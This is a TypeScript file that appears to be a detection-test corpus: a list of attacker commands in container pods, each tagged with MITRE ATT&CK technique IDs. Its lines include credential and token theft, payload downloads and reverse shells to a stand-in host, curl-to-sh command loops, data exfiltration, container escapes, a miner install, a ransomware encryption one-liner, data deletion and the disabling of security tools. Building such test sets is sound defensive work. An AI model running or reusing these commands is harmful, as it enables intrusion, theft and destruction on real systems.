/** Steps in pods of servers, by web shell and by exec, written down before the rules were read. What is routine by its exec alone is left out. */
import type { Attack } from './attacks.ts';
import { attackLines } from './lines.ts';

/** Entry, techniques, command. */
export const POD_ATTACKS: readonly Attack[] = attackLines(String.raw`
web | T1087.001 T1003.008 | cat /etc/passwd
web | T1087.001 | getent passwd; awk -F: '$3==0' /etc/passwd
web | T1069.001 | groups; cat /etc/group; id root
web | T1082 | uname -a; cat /etc/os-release; lscpu
web | T1057 | ps -ef; cat /proc/1/cmdline
web | T1083 | ls -laR /app; find / -writable -type d 2>/dev/null
web | T1016 | ip addr; cat /etc/resolv.conf; ip route
web | T1049 | ss -tunap; cat /proc/net/tcp
web | T1007 | systemctl list-units --type=service; service --status-all
web | T1518.001 T1518 | ps aux | grep -iE 'falco|tetragon|sysdig|crowdstrike|wazuh'
web | T1613 T1082 | cat /proc/1/cgroup; ls -la /.dockerenv; cat /proc/self/status | grep Cap; mount | grep overlay
web | T1135 | showmount -e 10.244.1.1; df -h; cat /etc/fstab
web | T1201 | cat /etc/pam.d/common-password; chage -l root
exec | T1552.001 T1213 | curl -s http://elasticsearch:9200/_search?size=10000 -o /tmp/dump.json
web | T1213 T1005 | curl -s 'http://elasticsearch.tenant-jobs.svc.cluster.local:9200/_cat/indices?v'; curl -s 'http://elasticsearch.tenant-jobs.svc.cluster.local:9200/customers/_search?size=1000&q=card' -o /tmp/c.json
web | T1046 | nc -z -v -w1 10.244.1.10 22; nc -z -v -w1 10.244.1.10 80; nc -z -v -w1 10.244.1.10 443; nc -z -v -w1 10.244.1.10 3306; nc -z -v -w1 10.244.1.10 6379; nc -z -v -w1 10.244.1.10 9200
exec | T1046 | nc -zv -w1 10.244.1.10 20-1024
exec | T1105 | wget http://198.51.100.66:8080/tool -O /tmp/tool
exec | T1105 | python3 -c "import urllib.request;urllib.request.urlretrieve('http://198.51.100.66/t','/tmp/t')"
exec | T1105 | perl -MLWP::Simple -e "getstore('http://198.51.100.66/t','/tmp/t')"
exec | T1105 | bash -c 'exec 3<>/dev/tcp/198.51.100.66/80; printf "GET /t HTTP/1.0\r\n\r\n" >&3; cat <&3 > /tmp/t'
exec | T1105 | nc -w 5 198.51.100.66 9001 > /tmp/t; chmod +x /tmp/t; /tmp/t
web | T1105 | git clone https://github.com/evil/tools /tmp/.t; cd /tmp/.t; make
exec | T1105 T1072 | apt-get install -y nmap netcat-openbsd tcpdump
web | T1105 | apk add --no-cache nmap
exec | T1027 T1140 | echo 'aWQK' | base64 -d > /tmp/i.sh; sh /tmp/i.sh
exec | T1140 | openssl enc -d -aes-256-cbc -in /tmp/p.enc -out /tmp/p -pass pass:x; chmod +x /tmp/p; /tmp/p
exec | T1140 T1027 | python3 -c "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"
exec | T1027.002 | upx -d /tmp/p; /tmp/p
exec | T1036.005 | cp /bin/sleep /tmp/nginx; /tmp/nginx 100
exec | T1036.004 T1036 | exec -a "[kworker/0:0]" /tmp/m; bash -c 'exec -a "[kworker/0:0]" /tmp/m -o pool.example:3333'
exec | T1564.001 | mv /tmp/m /tmp/.m; mkdir /var/tmp/.cache; cp /tmp/.m /var/tmp/.cache/sshd; /var/tmp/.cache/sshd -q
exec | T1070.006 | touch -d "2020-01-01" /tmp/m; touch -r /etc/hosts /usr/local/bin/m
exec | T1070.003 | cat /dev/null > ~/.bash_history; ln -sf /dev/null ~/.bash_history
exec | T1070.003 | unset HISTFILE; rm ~/.bash_history
exec | T1222.002 | chattr +i /etc/cron.d/x; chmod 4755 /tmp/m
exec | T1548.001 | chmod 4755 /usr/bin/python3
exec | T1548 | setcap cap_setuid+ep /usr/bin/python3
exec | T1098.004 | ssh-keygen -t ed25519 -f /tmp/k -N ""; cp /tmp/k.pub /root/.ssh/authorized_keys
exec | T1136.001 | echo 'x::0:0::/:/bin/bash' >> /etc/passwd
exec | T1098 | echo root:toor | chpasswd
exec | T1543 | cp /tmp/x.service /host/etc/systemd/system/; chroot /host systemctl start x
exec | T1053.003 | echo '* * * * * root sh /tmp/x' >> /host/etc/crontab
exec | T1552.004 T1552.001 | cat /host/root/.ssh/id_rsa /host/root/.kube/config
exec | T1003.008 | unshadow /etc/passwd /etc/shadow; john /tmp/h
exec | T1003.007 | dd if=/proc/1/mem of=/tmp/mem bs=1 skip=4096 count=4096; gcore -o /tmp/c 1
exec | T1555 T1555.003 | find / -name "logins.json" -o -name "key4.db" 2>/dev/null
exec | T1552.001 | grep -rIl 'AKIA' / 2>/dev/null
exec | T1552.001 | find / -name "*.kdbx" -o -name "*.pfx" -o -name "*.p12" 2>/dev/null
exec | T1539 T1552.001 | sqlite3 /root/.config/google-chrome/Default/Cookies "select * from cookies"
web | T1110.001 T1110 | for p in admin root toor; do mysql -h 10.244.1.9 -uroot -p$p -e 'select 1'; done; mysql -h 10.244.1.9 -uroot -padmin -e "select 1"
web | T1110 | for p in $(cat /tmp/w); do curl -s -u admin:$p http://10.244.1.8/login; done
exec | T1557.002 T1557 | arpspoof -i eth0 10.244.1.1; ettercap -T -M arp
exec | T1611 | cat /proc/1/root/etc/shadow
exec | T1611 | mkdir /tmp/m && mount -t ext4 /dev/vda1 /tmp/m; cat /tmp/m/etc/hostname
exec | T1611 | mount -t proc proc /tmp/p; echo x > /tmp/p/sys/kernel/modprobe
exec | T1611 | mknod /tmp/vda b 254 0; debugfs /tmp/vda
exec | T1611 | nsenter --target 1 --mount -- cat /etc/shadow
exec | T1611 | unshare --mount --map-root-user sh -c id
exec | T1611 | python3 -c "import os;os.chroot('/host');os.system('sh')"
exec | T1611 | perl -e 'require "syscall.ph";open(F,"/proc/1/ns/mnt");syscall(308,fileno(F),0);exec "sh"'
web | T1609 T1552.007 | curl -sk -H "Authorization: Bearer x" https://kubernetes.default.svc/apis/authorization.k8s.io/v1/selfsubjectrulesreviews -X POST -d '{}'
web | T1528 T1552.007 | python3 -c "t=open('/var/run/secrets/kubernetes.io/serviceaccount/token').read();import urllib.request as u;print(u.urlopen(u.Request('https://kubernetes.default/api/v1/secrets',headers={'Authorization':'Bearer '+t})).read())"
exec | T1552.005 | python3 -c "import urllib.request as u;print(u.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read())"
exec | T1552.005 | curl -s http://169.254.169.254/latest/user-data
exec | T1552.005 | curl -s "http://100.100.100.200/latest/meta-data/ram/security-credentials/"
exec | T1071.001 T1102 | while :; do curl -s http://198.51.100.66/cmd | sh; sleep 5; done
web | T1071.001 | python3 -c "import urllib.request,os,time;exec('while 1:\n os.system(urllib.request.urlopen(\"http://198.51.100.66/c\").read().decode());time.sleep(5)')"
exec | T1571 T1095 | ncat --udp 198.51.100.66 5353 -e /bin/sh
exec | T1090.001 T1090 | socat TCP4-LISTEN:8443,fork SOCKS4A:127.0.0.1:10.244.1.9:443,socksport=9050
exec | T1572 | ssh -N -D 0.0.0.0:1080 -o StrictHostKeyChecking=no root@198.51.100.66
exec | T1041 T1048 | curl -s -X PUT --data-binary @/tmp/dump.json http://198.51.100.66/d
exec | T1030 T1048 T1041 | split -b 1m /tmp/d.tgz /tmp/p.; for f in /tmp/p.*; do curl -s -T $f http://198.51.100.66/; done; curl -s -T /tmp/p.aa http://198.51.100.66/
exec | T1048.003 | python3 -m http.server 8000 --directory /
web | T1048 T1048.003 | php -r 'file_put_contents("ftp://u:p@198.51.100.66/x",file_get_contents("/etc/passwd"));'
exec | T1048.002 T1048 | sftp -o StrictHostKeyChecking=no u@198.51.100.66; scp /tmp/d.tgz u@198.51.100.66:
exec | T1567.002 | python3 -c "import boto3;boto3.client('s3').upload_file('/tmp/d.tgz','loot','d')"
web | T1567.002 | curl -T /tmp/d.tgz https://exfil.s3.amazonaws.com/d
exec | T1560.001 | tar czf /dev/shm/.d.tgz /etc /root /home
exec | T1496 | /tmp/xmrig --url pool.supportxmr.com:443 --user 44A --coin monero --cpu-priority 5
web | T1496 | curl -sL https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | bash -s 44AFF
web | T1496 | docker run -d --name m minerd -a cryptonight -o stratum+tcp://x:3333
exec | T1499.004 T1499 | yes > /dev/null & yes > /dev/null & dd if=/dev/zero of=/tmp/fill bs=1M count=100000
exec | T1485 | find /usr/share/elasticsearch/data -type f -delete
exec | T1485 | find /app -type f -exec shred -u {} \;
exec | T1486 | python3 -c "import os;from cryptography.fernet import Fernet;f=Fernet(Fernet.generate_key());[open(p,'wb').write(f.encrypt(open(p,'rb').read())) for p in os.listdir('/data')]"
exec | T1489 | kill -9 1; pkill -9 -f elasticsearch
exec | T1491.001 T1491 | echo hacked > /etc/motd; echo '<h1>pwned</h1>' > /usr/share/nginx/html/index.html
exec | T1529 | kill -TERM -1; shutdown -h now
exec | T1562.001 | systemctl stop falco; rm -rf /opt/tetragon
exec | T1562.004 | iptables -I INPUT -j ACCEPT; iptables -t nat -F
exec | T1562.003 | export HISTCONTROL=ignorespace; set +o history
exec | T1556.003 | sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd
exec | T1554 | cp /tmp/ls /bin/ls; mv /tmp/sshd /usr/sbin/sshd
exec | T1574.006 | LD_PRELOAD=/dev/shm/x.so ls
exec | T1055.009 T1055 | dd if=/tmp/sc of=/proc/7/mem bs=1 seek=4194304
exec | T1620 | perl -e 'syscall(319,$n="",1);open(F,">&=3");print F qx(curl http://198.51.100.66/m);exec "/proc/$$/fd/3"'
`);
